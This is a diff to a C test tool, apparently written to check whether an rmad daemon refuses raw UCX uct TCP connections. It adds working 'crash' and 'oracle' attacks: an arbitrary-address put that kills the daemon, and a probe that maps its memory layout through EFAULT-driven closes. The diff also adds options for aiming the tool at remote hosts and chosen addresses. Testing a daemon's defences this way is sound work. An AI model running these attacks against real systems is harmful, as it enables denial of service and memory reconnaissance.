@@ -17,13 +17,24 @@
  *   sockcm    to the listener's port instead (UCX's sockcm, under ucp's
  *             listener): a private data header announcing 0 bytes, then
  *             100 (UCX checks the count only by an assertion, before
- *             rmad hears of the connection).
+ *             rmad hears of the connection);
+ *   crash     the put, to address 0x10000 (unmapped: UCX's memcpy kills
+ *             the daemon; no knowledge of its address space needed);
+ *   oracle    the put's headers alone, then (after a bounded wait for the
+ *             daemon to close) its data: UCX's recv() straight into an
+ *             unwritable address fails with EFAULT and UCX closes the
+ *             connection, a writable one keeps it open, so a sender
+ *             learns what is mapped without a crash.
  *
  * The sockets are the daemon's listening tcp ports other than its
- * listener's (`ss -ltnpH`). --bind picks our source address, --count how
- * many connections each port gets (one after the other). Prints one line
- * per port: whether the daemon closed the connections before any byte of
- * ours (refused at accept) or kept them. Exit 0 when it ran. */
+ * listener's (`ss -ltnpH`), or those given with --ports (every attack is
+ * then sent to each, the listener's included), at --host (127.0.0.1).
+ * The put's target is the daemon's first region (/proc/PID/maps), or
+ * --target: another user can read neither, so its caller tells it.
+ * --bind picks our source address ("any": the kernel's), --count how many connections each
+ * port gets (one after the other). Prints one line per port: whether the
+ * daemon closed the connections before any byte of ours (refused at
+ * accept) or kept them. Exit 0 when it ran. */
 #include <arpa/inet.h>
 #include <errno.h>
 #include <getopt.h>
@@ -122,6 +133,16 @@ raw_uct_send(int fd, const void *buf, size_t len)
 }
 
 static void
+raw_uct_put_data(int fd)
+{
+	char data[64];
+
+	for (size_t i = 0; i < sizeof(data); i += 8)
+		memcpy(data + i, "UCTGUARD", 8);
+	raw_uct_send(fd, data, sizeof(data));
+}
+
+static void
 raw_uct_attack(int fd, const char *attack, uint64_t target)
 {
 	uint64_t magic = RAW_UCT_MAGIC;
@@ -137,19 +158,28 @@ raw_uct_attack(int fd, const char *attack, uint64_t target)
 		return;
 	}
 	raw_uct_send(fd, &magic, sizeof(magic));
-	if (strcmp(attack, "put") == 0) {
+	if (strcmp(attack, "crash") == 0)
+		target = 0x10000;
+	if (strcmp(attack, "oracle") == 0) {
+		struct raw_uct_am_hdr h = {RAW_UCT_AM_PUT_REQ,
+					   sizeof(struct raw_uct_put_req)};
+		struct raw_uct_put_req r = {target, 128, 0};
+		raw_uct_send(fd, &h, sizeof(h));
+		raw_uct_send(fd, &r, sizeof(r));
+		/* UCX now recv()s into target itself: a close says that
+		 * it is unwritable (bounded; the daemon's counters decide) */
+		if (!raw_uct_closed(fd, 200))
+			raw_uct_put_data(fd);
+	} else if (strcmp(attack, "put") == 0 || strcmp(attack, "crash") == 0) {
 		struct raw_uct_am_hdr h = {RAW_UCT_AM_PUT_REQ,
 					   sizeof(struct raw_uct_put_req)};
 		/* 128 bytes announced, 64 sent: a complete put would
 		 * have UCX acknowledge it, and 1.13 aborts on an
 		 * acknowledgement before the handshake (tcp_ep.c:72) */
 		struct raw_uct_put_req r = {target, 128, 0};
-		char data[64];
-		for (size_t i = 0; i < sizeof(data); i += 8)
-			memcpy(data + i, "UCTGUARD", 8);
 		raw_uct_send(fd, &h, sizeof(h));
 		raw_uct_send(fd, &r, sizeof(r));
-		raw_uct_send(fd, data, sizeof(data));
+		raw_uct_put_data(fd);
 	} else {
 		struct raw_uct_am_hdr h = {0, 0xffffff00u};
 		memset(junk, 0x41, sizeof(junk));
@@ -161,10 +191,11 @@ raw_uct_attack(int fd, const char *attack, uint64_t target)
 int
 main(int argc, char **argv)
 {
-	const char *bind_ip = "127.0.0.1", *attack = "put";
+	const char *bind_ip = "127.0.0.1", *host = "127.0.0.1",
+		   *attack = "put", *port_list = NULL;
 	int pid = 0, refused = 0, kept = 0, count = 1;
 	uint16_t listener = 0, ports[RAW_UCT_PORTS];
-	uint64_t target;
+	uint64_t target = 0;
 	size_t n;
 	int opt;
 
@@ -174,6 +205,9 @@ main(int argc, char **argv)
 	    {"bind", required_argument, NULL, 'b'},
 	    {"attack", required_argument, NULL, 'a'},
 	    {"count", required_argument, NULL, 'c'},
+	    {"host", required_argument, NULL, 'h'},
+	    {"ports", required_argument, NULL, 'P'},
+	    {"target", required_argument, NULL, 't'},
 	    {NULL, 0, NULL, 0},
 	};
 	while ((opt = getopt_long(argc, argv, "", opts, NULL)) != -1) {
@@ -193,22 +227,44 @@ main(int argc, char **argv)
 		case 'c':
 			count = atoi(optarg);
 			break;
+		case 'h':
+			host = optarg;
+			break;
+		case 'P':
+			port_list = optarg;
+			break;
+		case 't':
+			target = strtoull(optarg, NULL, 0);
+			break;
 		default:
 			return 2;
 		}
 	}
-	if (pid <= 0 ||
+	if ((pid <= 0 && (port_list == NULL || target == 0)) ||
 	    (strcmp(attack, "put") != 0 && strcmp(attack, "oversize") != 0 &&
-	     strcmp(attack, "sockcm") != 0)) {
-		fprintf(
-		    stderr,
-		    "usage: raw_uct --pid PID --listener PORT "
-		    "[--bind IP] [--attack put|oversize|sockcm] [--count N]\n");
+	     strcmp(attack, "sockcm") != 0 && strcmp(attack, "crash") != 0 &&
+	     strcmp(attack, "oracle") != 0)) {
+		fprintf(stderr,
+			"usage: raw_uct {--pid PID --listener PORT | --ports "
+			"P1,P2,... --target ADDR} [--host IP] [--bind IP] "
+			"[--attack put|oversize|sockcm|crash|oracle] "
+			"[--count N]\n");
 		return 2;
 	}
-	target = raw_uct_region(pid);
-	n = raw_uct_ports(pid, listener, ports, RAW_UCT_PORTS);
-	if (strcmp(attack, "sockcm") == 0) {
+	if (target == 0)
+		target = raw_uct_region(pid);
+	if (port_list != NULL) {
+		char *copy = strdup(port_list), *tok, *save = NULL;
+		n = 0;
+		for (tok = strtok_r(copy, ",", &save);
+		     tok != NULL && n < RAW_UCT_PORTS;
+		     tok = strtok_r(NULL, ",", &save))
+			ports[n++] = (uint16_t)atoi(tok);
+		free(copy);
+	} else {
+		n = raw_uct_ports(pid, listener, ports, RAW_UCT_PORTS);
+	}
+	if (strcmp(attack, "sockcm") == 0 && port_list == NULL) {
 		ports[0] = listener;
 		n = 1;
 	}
@@ -225,8 +281,10 @@ main(int argc, char **argv)
 		int fd = socket(AF_INET, SOCK_STREAM, 0);
 
 		inet_pton(AF_INET, bind_ip, &src.sin_addr);
-		inet_pton(AF_INET, "127.0.0.1", &dst.sin_addr);
-		if (fd < 0 || bind(fd, (void *)&src, sizeof(src)) < 0 ||
+		inet_pton(AF_INET, host, &dst.sin_addr);
+		if (fd < 0 ||
+		    (strcmp(bind_ip, "any") != 0 &&
+		     bind(fd, (void *)&src, sizeof(src)) < 0) ||
 		    connect(fd, (void *)&dst, sizeof(dst)) < 0) {
 			fprintf(stderr, "raw_uct: port %u: %s\n", ports[i],
 				strerror(errno));
